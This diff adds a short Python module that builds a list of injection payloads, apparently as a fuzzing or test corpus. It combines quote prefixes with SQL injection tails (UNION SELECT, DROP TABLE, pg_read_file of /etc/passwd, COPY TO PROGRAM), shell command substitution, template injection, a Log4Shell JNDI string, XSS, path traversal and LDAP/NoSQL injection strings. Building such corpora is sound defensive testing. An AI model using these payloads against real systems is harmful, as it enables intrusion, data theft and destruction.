@@ -1,0 +1,48 @@
+"""What people type who want a database, a shell or a template to do something else."""
+
+from itertools import product
+
+QUOTES = ("", "'", '"', "`", "')", '")', "'))", "\\'")
+TAILS = (
+    " OR 1=1",
+    " OR 1=1 --",
+    " OR '1'='1",
+    " UNION SELECT body FROM turns --",
+    " UNION ALL SELECT NULL, NULL, NULL --",
+    "; DROP TABLE memories; --",
+    "; DELETE FROM users; --",
+    "; UPDATE access_keys SET owner='ann'; --",
+    "; ATTACH DATABASE '/tmp/x' AS x; --",
+    "; PRAGMA writable_schema=ON; --",
+    " AND pg_sleep(5) --",
+    "; SELECT pg_read_file('/etc/passwd'); --",
+    "; COPY users TO PROGRAM 'id'; --",
+    " || (SELECT wrapped FROM user_keys) || ",
+    "/**/OR/**/1=1",
+    " LIKE '%",
+    " GLOB '*",
+    " COLLATE NOCASE",
+    " RETURNING *",
+    " ON CONFLICT DO NOTHING",
+    "\nGO\n",
+    "%27%20OR%201=1",
+    "$$; SELECT 1; $$",
+    "{{7*7}}",
+    "${jndi:ldap://x/a}",
+    "$(id)",
+    "`id`",
+    "; cat /etc/passwd",
+    "%s%s%n",
+    ":user",
+    "?",
+    "%(user)s",
+    "${user}",
+    "<script>alert(1)</script>",
+    "../../etc/passwd",
+    "__proto__",
+    "*)(uid=*",
+    "' && this.a == 'b",
+    "\u02bc OR 1=1",
+    "\uff07 OR 1=1 --",
+)
+PAYLOADS = tuple(dict.fromkeys(f"{quote}{tail}" for quote, tail in product(QUOTES, TAILS)))
